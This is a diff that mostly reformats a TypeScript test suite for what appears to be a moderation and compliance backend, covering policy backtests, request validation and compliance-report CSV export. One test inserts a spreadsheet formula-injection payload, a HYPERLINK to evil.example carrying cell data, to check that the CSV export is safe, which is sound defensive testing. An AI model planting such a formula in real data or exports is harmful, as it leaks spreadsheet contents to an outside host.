@@ -49,7 +49,11 @@ describe('backtests', () => {
     // Stricter than the version in force: any contact handle at all.
     draft.rules[1]!.conditions = { all: [{ fact: 'contactCount', operator: 'greaterThan', value: 0 }] };
     const from = new Date(now.getTime() - 30 * 86_400_000);
-    const started = await request(app).post('/api/backtests').set(manager).send({ policyId: policy.id, document: draft, from: from.toISOString(), to: now.toISOString() }).expect(202);
+    const started = await request(app)
+      .post('/api/backtests')
+      .set(manager)
+      .send({ policyId: policy.id, document: draft, from: from.toISOString(), to: now.toISOString() })
+      .expect(202);
     expect(started.body.status).toBe('queued');
     const done = await waitFor(started.body.id);
     expect(done.status).toBe('done');
@@ -57,12 +61,18 @@ describe('backtests', () => {
     const result = done.result;
 
     // The same posts, judged one by one with live (SQL) context: the backtest must agree exactly.
-    const ids = (await t.db('posts').where('posted_at', '>=', from).andWhere('posted_at', '<', now).orderBy('id').select('id')).map((r: { id: number }) => r.id);
+    const ids = (await t.db('posts').where('posted_at', '>=', from).andWhere('posted_at', '<', now).orderBy('id').select('id')).map(
+      (r: { id: number }) => r.id,
+    );
     expect(result.items).toBe(ids.length);
     const lists = await loadLists(t.db);
     const brands = await loadBrands(t.db);
     const published = await t.db('policy_versions').where({ id: policy.published_version_id }).first();
-    const as = (doc: PolicyDocument) => ({ lists, brands, policies: [{ policyId: 0, versionId: 0, name: 'x', mode: 'enforce' as const, evaluator: buildEvaluator(doc, lists) }] });
+    const as = (doc: PolicyDocument) => ({
+      lists,
+      brands,
+      policies: [{ policyId: 0, versionId: 0, name: 'x', mode: 'enforce' as const, evaluator: buildEvaluator(doc, lists) }],
+    });
     const perRule = new Map<string, number>();
     let newly = 0;
     let gone = 0;
@@ -94,24 +104,46 @@ describe('backtests', () => {
     const policy = await t.db('policies').where({ name: 'Contact harvesting' }).first();
     const draft: PolicyDocument = {
       rules: [
-        { name: 'board-somewhat-commercial', conditions: { all: [{ fact: 'boardCommercialShare24h', operator: 'greaterThan', value: 0.04 }] }, event: { type: 'label', params: { label: 'commercial' } } },
-        { name: 'board-over-threshold', conditions: { all: [{ fact: 'boardOverThreshold', operator: 'equal', value: true }] }, event: { type: 'label', params: { label: 'ad' } } },
-        { name: 'quiet-board', conditions: { all: [{ fact: 'boardPosts24h', operator: 'lessThan', value: 5 }] }, event: { type: 'label', params: { label: 'sensitive' } } },
+        {
+          name: 'board-somewhat-commercial',
+          conditions: { all: [{ fact: 'boardCommercialShare24h', operator: 'greaterThan', value: 0.04 }] },
+          event: { type: 'label', params: { label: 'commercial' } },
+        },
+        {
+          name: 'board-over-threshold',
+          conditions: { all: [{ fact: 'boardOverThreshold', operator: 'equal', value: true }] },
+          event: { type: 'label', params: { label: 'ad' } },
+        },
+        {
+          name: 'quiet-board',
+          conditions: { all: [{ fact: 'boardPosts24h', operator: 'lessThan', value: 5 }] },
+          event: { type: 'label', params: { label: 'sensitive' } },
+        },
       ],
     };
     const from = new Date(now.getTime() - 20 * 86_400_000);
-    const started = await request(app).post('/api/backtests').set(manager).send({ policyId: policy.id, document: draft, from: from.toISOString(), to: now.toISOString() });
+    const started = await request(app)
+      .post('/api/backtests')
+      .set(manager)
+      .send({ policyId: policy.id, document: draft, from: from.toISOString(), to: now.toISOString() });
     expect(started.status, JSON.stringify(started.body)).toBe(202);
     const done = await waitFor(started.body.id);
     expect(done.status).toBe('done');
-    const ids = (await t.db('posts').where('posted_at', '>=', from).andWhere('posted_at', '<', now).orderBy('id').select('id')).map((r: { id: number }) => r.id);
+    const ids = (await t.db('posts').where('posted_at', '>=', from).andWhere('posted_at', '<', now).orderBy('id').select('id')).map(
+      (r: { id: number }) => r.id,
+    );
     const lists = await loadLists(t.db);
     const brands = await loadBrands(t.db);
-    const as = { lists, brands, policies: [{ policyId: 0, versionId: 0, name: 'x', mode: 'enforce' as const, evaluator: buildEvaluator(draft, lists) }] };
+    const as = {
+      lists,
+      brands,
+      policies: [{ policyId: 0, versionId: 0, name: 'x', mode: 'enforce' as const, evaluator: buildEvaluator(draft, lists) }],
+    };
     const perRule = new Map<string, number>();
     for (let i = 0; i < ids.length; i += 400) {
       const subjects = await Promise.all(ids.slice(i, i + 400).map((id) => storedPost(t.db, id)));
-      for (const j of await judgePostsPure(t.db, as, subjects as never, undefined)) for (const h of j.hits) perRule.set(h.rule, (perRule.get(h.rule) ?? 0) + 1);
+      for (const j of await judgePostsPure(t.db, as, subjects as never, undefined))
+        for (const h of j.hits) perRule.set(h.rule, (perRule.get(h.rule) ?? 0) + 1);
     }
     for (const r of done.result.draft.rules) expect(r.matches, r.rule).toBe(perRule.get(r.rule) ?? 0);
     // Each rule matches something and not everything, so the comparison says something.
@@ -123,10 +155,23 @@ describe('backtests', () => {
 
   it('backtests order policies too', async () => {
     const policy = await t.db('policies').where({ name: 'New account, high-value order' }).first();
-    const started = await request(app).post('/api/backtests').set(manager).send({ policyId: policy.id, from: '2026-09-01T00:00:00Z', to: now.toISOString() }).expect(202);
+    const started = await request(app)
+      .post('/api/backtests')
+      .set(manager)
+      .send({ policyId: policy.id, from: '2026-09-01T00:00:00Z', to: now.toISOString() })
+      .expect(202);
     const done = await waitFor(started.body.id);
     expect(done.status).toBe('done');
-    expect(done.result.items).toBe(Number((await t.db('transactions').where('ordered_at', '>=', new Date('2026-09-01T00:00:00Z')).andWhere('ordered_at', '<', now).count({ c: '*' }).first())!.c));
+    expect(done.result.items).toBe(
+      Number(
+        (await t
+          .db('transactions')
+          .where('ordered_at', '>=', new Date('2026-09-01T00:00:00Z'))
+          .andWhere('ordered_at', '<', now)
+          .count({ c: '*' })
+          .first())!.c,
+      ),
+    );
     expect(done.result.draft.rules.find((r: { rule: string }) => r.rule === 'new-buyer-large-order').matches).toBeGreaterThan(0);
     // The draft is the version in force: nothing changes.
     expect(done.result.diff).toMatchObject({ newlyMatched: 0, noLongerMatched: 0 });
@@ -135,11 +180,23 @@ describe('backtests', () => {
   it('refuses bad requests without queueing anything', async () => {
     const before = Number((await t.db('backtests').count({ c: '*' }).first())!.c);
     const policy = await t.db('policies').first('id');
-    const reversed = await request(app).post('/api/backtests').set(manager).send({ policyId: policy.id, from: now.toISOString(), to: '2026-01-01T00:00:00Z' }).expect(400);
+    const reversed = await request(app)
+      .post('/api/backtests')
+      .set(manager)
+      .send({ policyId: policy.id, from: now.toISOString(), to: '2026-01-01T00:00:00Z' })
+      .expect(400);
     expect(reversed.body.errors[0].path).toBe('to');
-    const unknown = await request(app).post('/api/backtests').set(manager).send({ policyId: 999999, from: '2026-01-01T00:00:00Z', to: now.toISOString() }).expect(400);
+    const unknown = await request(app)
+      .post('/api/backtests')
+      .set(manager)
+      .send({ policyId: 999999, from: '2026-01-01T00:00:00Z', to: now.toISOString() })
+      .expect(400);
     expect(unknown.body.errors[0].path).toBe('policyId');
-    const badDoc = await request(app).post('/api/backtests').set(manager).send({ policyId: policy.id, document: { rules: [{ name: 'x' }] }, from: '2026-01-01T00:00:00Z', to: now.toISOString() }).expect(400);
+    const badDoc = await request(app)
+      .post('/api/backtests')
+      .set(manager)
+      .send({ policyId: policy.id, document: { rules: [{ name: 'x' }] }, from: '2026-01-01T00:00:00Z', to: now.toISOString() })
+      .expect(400);
     expect(badDoc.body.errors[0].path).toMatch(/^document\.rules\[0\]/);
     expect(Number((await t.db('backtests').count({ c: '*' }).first())!.c)).toBe(before);
   });
@@ -156,7 +213,11 @@ describe('compliance reports', () => {
   }
 
   it('counts posts by disclosure verdict and lists each undisclosed one with evidence and a tamper-evident snapshot', async () => {
-    const queued = await request(app).post('/api/compliance-reports').set(compliance).send({ from: '2026-09-01T00:00:00Z', to: now.toISOString() }).expect(202);
+    const queued = await request(app)
+      .post('/api/compliance-reports')
+      .set(compliance)
+      .send({ from: '2026-09-01T00:00:00Z', to: now.toISOString() })
+      .expect(202);
     const done = await finished(queued.body.id);
     expect(done.status).toBe('done');
     const r = done.result;
@@ -172,11 +233,24 @@ describe('compliance reports', () => {
       expect(c.textSha256).toBe(createHash('sha256').update(text).digest('hex'));
       expect(c.evidence.length).toBeGreaterThan(0);
     }
-    const orders = Number((await t.db('transactions').where('referral_undisclosed', true).whereIn('referral_post_id', r.cases.map((c: { postId: number }) => c.postId)).count({ c: '*' }).first())!.c);
+    const orders = Number(
+      (await t
+        .db('transactions')
+        .where('referral_undisclosed', true)
+        .whereIn(
+          'referral_post_id',
+          r.cases.map((c: { postId: number }) => c.postId),
+        )
+        .count({ c: '*' })
+        .first())!.c,
+    );
     expect(r.counts.ordersFromUndisclosed).toBe(orders);
     const reaches = r.cases.map((c: { reach: number }) => c.reach);
     expect(reaches).toEqual([...reaches].sort((a, b) => b - a));
-    const audit = await t.db('audit_log').where({ action: 'compliance_report.create', subject_id: String(queued.body.id) }).first();
+    const audit = await t
+      .db('audit_log')
+      .where({ action: 'compliance_report.create', subject_id: String(queued.body.id) })
+      .first();
     expect(audit.detail).toMatchObject({ brandId: null });
 
     const csv = await request(app).get(`/api/compliance-reports/${queued.body.id}/csv`).set(compliance).expect(200);
@@ -191,9 +265,16 @@ describe('compliance reports', () => {
     const author = await t.db('accounts').where({ id: post.author_id }).first('handle');
     const formula = '=HYPERLINK("http://evil.example/?d="&A1,"open")';
     await t.db('accounts').where({ id: post.author_id }).update({ handle: formula });
-    await t.db('posts').where({ id: post.id }).update({ title: null, body: `${formula} 真心推荐` });
+    await t
+      .db('posts')
+      .where({ id: post.id })
+      .update({ title: null, body: `${formula} 真心推荐` });
     try {
-      const queued = await request(app).post('/api/compliance-reports').set(compliance).send({ from: '2026-09-01T00:00:00Z', to: now.toISOString() }).expect(202);
+      const queued = await request(app)
+        .post('/api/compliance-reports')
+        .set(compliance)
+        .send({ from: '2026-09-01T00:00:00Z', to: now.toISOString() })
+        .expect(202);
       expect((await finished(queued.body.id)).status).toBe('done');
       const csv = await request(app).get(`/api/compliance-reports/${queued.body.id}/csv`).set(compliance).expect(200);
       const [header, ...rows] = parseCsv(csv.text.replace(/^\ufeff/, '')) as string[][];
@@ -209,7 +290,11 @@ describe('compliance reports', () => {
 
   it('narrows to one brand', async () => {
     const brand = await t.db('accounts').where({ type: 'brand', external_id: 'b-soundjoy' }).first();
-    const queued = await request(app).post('/api/compliance-reports').set(compliance).send({ from: '2026-09-01T00:00:00Z', to: now.toISOString(), brandId: brand.id }).expect(202);
+    const queued = await request(app)
+      .post('/api/compliance-reports')
+      .set(compliance)
+      .send({ from: '2026-09-01T00:00:00Z', to: now.toISOString(), brandId: brand.id })
+      .expect(202);
     const done = await finished(queued.body.id);
     for (const c of done.result.cases) expect(c.brands).toEqual(['soundjoy']);
     expect(done.result.filters.brand).toBe('soundjoy');
@@ -219,12 +304,24 @@ describe('compliance reports', () => {
 
   it('refuses bad requests and other roles, writing nothing', async () => {
     const before = Number((await t.db('compliance_reports').count({ c: '*' }).first())!.c);
-    const bad = await request(app).post('/api/compliance-reports').set(compliance).send({ from: now.toISOString(), to: '2026-01-01T00:00:00Z', brandId: 999999 }).expect(400);
+    const bad = await request(app)
+      .post('/api/compliance-reports')
+      .set(compliance)
+      .send({ from: now.toISOString(), to: '2026-01-01T00:00:00Z', brandId: 999999 })
+      .expect(400);
     expect(bad.body.errors.map((e: { path: string }) => e.path)).toContain('to');
     const notBrand = await t.db('accounts').where({ type: 'member' }).first('id');
-    const wrong = await request(app).post('/api/compliance-reports').set(compliance).send({ from: '2026-09-01T00:00:00Z', to: now.toISOString(), brandId: notBrand.id }).expect(400);
+    const wrong = await request(app)
+      .post('/api/compliance-reports')
+      .set(compliance)
+      .send({ from: '2026-09-01T00:00:00Z', to: now.toISOString(), brandId: notBrand.id })
+      .expect(400);
     expect(wrong.body.errors[0].path).toBe('brandId');
-    await request(app).post('/api/compliance-reports').set(manager).send({ from: '2026-09-01T00:00:00Z', to: now.toISOString() }).expect(403);
+    await request(app)
+      .post('/api/compliance-reports')
+      .set(manager)
+      .send({ from: '2026-09-01T00:00:00Z', to: now.toISOString() })
+      .expect(403);
     expect(Number((await t.db('compliance_reports').count({ c: '*' }).first())!.c)).toBe(before);
   });
 });
